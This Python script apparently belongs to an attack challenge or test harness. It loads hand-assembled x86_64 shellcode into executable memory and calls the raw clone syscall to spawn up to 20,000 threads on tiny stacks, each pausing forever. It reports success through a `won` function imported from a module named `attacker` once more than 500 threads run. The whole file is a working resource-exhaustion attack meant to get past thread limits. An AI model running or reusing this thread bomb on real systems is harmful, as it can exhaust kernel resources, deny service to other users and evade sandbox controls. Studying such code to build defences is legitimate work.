"""Makes threads by the kernel's own call, on a stack of a few bytes each, as many as there is memory for."""

import ctypes
import mmap
import platform

from attacker import won

assert platform.machine() == "x86_64"
CODE = bytes.fromhex(
    "4154 4155 4989fc 4989f5"  # push r12, r13; r12 = how many, r13 = stack
    "b838000000 bf000f0500 4c89ee 31d2 4531d2 4531c0 0f05"  # clone(VM | FS | FILES | SIGHAND | THREAD | SYSVSEM, r13)
    "4885c0 780e 7414 4981c580000000 49ffcc 75d6"  # refused: done; the new one: pause; else the next one
    "4c89e0 415d 415c c3"  # return how many are left
    "31ff 31f6 baffffffff b807000000 0f05 ebee"  # poll for nothing, for ever
)
COUNT = 20_000
memory = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
memory.write(CODE)
stacks = mmap.mmap(-1, 128 * (COUNT + 1))
make = ctypes.CFUNCTYPE(ctypes.c_long, ctypes.c_long, ctypes.c_void_p)(
    ctypes.addressof(ctypes.c_char.from_buffer(memory))
)
started = 0
while started < COUNT:
    left = make(200, ctypes.addressof(ctypes.c_char.from_buffer(stacks)) + 128 * started + 64)
    started += 200 - left
    print(started, flush=True)
    if left:
        break
    if started > 500:
        won("started thousands of threads")
